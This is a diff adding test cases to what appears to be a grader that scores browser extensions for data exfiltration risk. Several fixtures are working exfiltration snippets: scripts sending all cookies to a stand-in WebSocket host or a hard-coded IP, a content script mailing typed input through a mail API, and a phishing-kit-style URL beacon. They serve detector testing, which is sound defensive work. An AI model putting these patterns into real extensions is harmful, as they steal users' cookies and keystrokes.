@@ -115,6 +115,72 @@ describe('the grade of what sends data', () => {
       },
       ['A+', 'A'],
     ],
+    [
+      'addresses to a server that the person set, kept in an object of a class',
+      {
+        background:
+          "class Api { data = { server: null }; load() { return chrome.storage.local.get('set').then(({ set }) => { Object.assign(this.data, set); }); } save(u) { return post(`${this.data.server}/add`, u); } } function post(to, body) { return fetch(to, { method: 'POST', body }); } const api = new Api(); api.load(); chrome.tabs.onUpdated.addListener((id, info, tab) => { api.save(tab.url); });",
+        popup:
+          "document.querySelector('#b').onclick = () => chrome.storage.local.set({ set: { server: document.querySelector('#b').value } });",
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'all cookies over a socket that is kept as a property of the window',
+      {
+        background:
+          "window.line = new WebSocket('wss://collect.example/'); function tell(m) { window.line.send(JSON.stringify(m)); } chrome.cookies.getAll({}, (all) => tell({ all }));",
+      },
+      ['F'],
+    ],
+    [
+      'cookies when the popup opens, which nobody asked for',
+      {
+        popup:
+          "chrome.tabs.query({ active: true }, ([tab]) => chrome.cookies.getAll({ url: tab.url }, (all) => fetch('http://10.1.2.3:8080/c', { method: 'POST', body: JSON.stringify(all) })));",
+        manifest: { host_permissions: ['<all_urls>', 'http://10.1.2.3:8080/*'] },
+      },
+      ['F'],
+    ],
+    [
+      'a kit whose server is not written in yet',
+      { content: "fetch('--- YOUR HOOK ---', { method: 'POST', body: JSON.stringify({ u: location.href }) });" },
+      ['F'],
+    ],
+    [
+      'a kit whose server is a name that nothing gives a value',
+      { content: "$.get(server_web + 'gate/index.php?history=' + location.href);" },
+      ['C', 'D', 'F'],
+    ],
+    [
+      'what is typed, mailed by a mail service that the manifest names',
+      {
+        content:
+          "document.addEventListener('change', (e) => { const x = new XMLHttpRequest(); x.open('POST', 'https://mandrillapp.com/api/1.0/messages/send.json'); x.send(JSON.stringify({ text: e.target.value })); });",
+        manifest: { host_permissions: ['<all_urls>', 'https://mandrillapp.com/*'] },
+      },
+      ['F'],
+    ],
+    [
+      'cookies of the site, into a file where the person says',
+      {
+        background:
+          'chrome.cookies.getAll({}, (all) => chrome.downloads.download({ url: URL.createObjectURL(new Blob([JSON.stringify(all)])), saveAs: true }));',
+      },
+      ['A+', 'A'],
+    ],
+    [
+      'a script of the page that runs what the page tells itself',
+      {
+        manifest: {
+          web_accessible_resources: [{ resources: ['popup.js'], matches: ['https://video.example/*'] }],
+          action: undefined,
+        },
+        popup:
+          "window.addEventListener('message', (e) => { if (e.source !== window || e.data.from !== 'filters') return; (0, eval)(e.data.code); });",
+      },
+      ['A+', 'A'],
+    ],
   ] as const)('%s', async (_, parts, grades) => {
     expect(grades).toContain(await graded(parts));
   });
